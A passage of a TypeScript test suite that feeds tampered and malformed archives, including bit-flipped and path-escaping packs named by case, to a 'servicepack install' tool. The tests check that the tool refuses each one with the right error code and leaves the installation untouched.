        const at = i === 0 ? 1 : 10 + Math.floor(((i - 1) * span) / 18);
        whole[at] = whole[at]! ^ (1 << (i % 8));
        return whole;
      },
      code: 'E_*',
      exit: 4,
      message: /damaged|tampered|refuses|not a complete gzip|not a gzip file|not a servicepack pack/,
    });
  }
  return out;
}

const INTEGRITY = new Set([
  'E_CORRUPT_ARCHIVE',
  'E_UNSAFE_ARCHIVE',
  'E_HASH_MISMATCH',
  'E_BAD_SIGNATURE',
  'E_UNSIGNED',
  'E_UNTRUSTED_KEY',
]);

describe('hostile packs through servicepack install', () => {
  test('control: the hostile-pack writer makes packs the installer accepts', async () => {
    const r0 = join(work, 'control');
    await cp(rtmTree, r0, { recursive: true });
    const file = join(packsDir, 'control.tgz');
    await writeFile(file, withExtra([]));
    const r = await cli(['install', '--accept-eula', '--root', r0, '-u', '--trust', trustFile, '--json', '--', file]);
    const doc = jsonDoc(r);
    assert.equal(r.code, 0, r.out);
    assert.equal((doc['after'] as { level: number }).level, 6);
    await rm(r0, { recursive: true });
    await rm(file);
  });

  const all = [...cases, ...bitFlipCases()];
  test(`the corpus has at least 40 cases (${all.length})`, () => {
    assert.ok(all.length >= 40);
  });

  for (const c of all) {
    test(`refuses: ${c.name}`, async (t) => {
      const target = c.revoking ? revokingRoot : root;
      const file = join(packsDir, `${String(++n).padStart(3, '0')}.tgz`);
      await writeFile(file, c.pack());
      const args = (c.args ?? []).map((a) => (a === '@revoked' ? revokedTrustFile : a));
      const r = await cli([
        'install',
        '--accept-eula',
        '--root',
        target,
        '-u',
        '--trust',
        trustFile,
        ...args,
        '--json',
        '--',
        file,
      ]);
      const doc = jsonDoc(r);
      const message = String(doc['message']);
      assert.equal(r.code, c.exit, `${c.name}: exit ${r.code}: ${message}`);
      if (c.code === 'E_*') assert.ok(INTEGRITY.has(String(doc['code'])), `${c.name}: ${doc['code']}: ${message}`);
      else assert.equal(doc['code'], c.code, `${c.name}: ${message}`);
      assert.match(message, c.message);
      t.diagnostic(`exit ${r.code} ${String(doc['code'])}: ${message.split('\n')[0]}`);
      await rm(file);
      assert.ok((await refusalLogs(target, (x) => x === doc['code'], r.code)) <= 1, `${c.name}: more than one log`);
      assert.deepEqual(
        await state(target),
        snapshots.get(target),
        `${c.name}: the installation, the sentinel or the work folder changed`,
      );
      assert.ok(!existsSync(join(target, '.servicepack', 'staging')), `${c.name}: staging left behind`);
    });
  }

  test('the real executable refuses the same way (a handful of cases, plain output)', async () => {
    const picks = ['"../" path', 'symlink escaping', 'hard link escaping', 'no signature', 'bit flip 7/20'];
    for (const name of picks) {
      const c = all.find((x) => x.name === name)!;
      const file = join(packsDir, `spawn-${String(++n).padStart(3, '0')}.tgz`);
      await writeFile(file, c.pack());
      const r = spawnSync(
        process.execPath,
        [bin, 'install', '--accept-eula', '--root', root, '-u', '--trust', trustFile, '--', file],
        {
          encoding: 'utf8',
          env: { PATH: process.env['PATH'] ?? '' },
          input: '',
          timeout: 20_000,
        },
      );
      assert.equal(r.status, c.exit, `${name}: ${r.stderr}`);
      assert.match(r.stderr, /servicepack: error: /, name);
      assert.match(r.stderr, c.message, name);
      await rm(file);
      await refusalLogs(root, (x) => (c.code === 'E_*' ? INTEGRITY.has(x ?? '') : x === c.code), c.exit);
      assert.deepEqual(await state(root), snapshots.get(root), `${name}: something changed`);
    }
  });
});
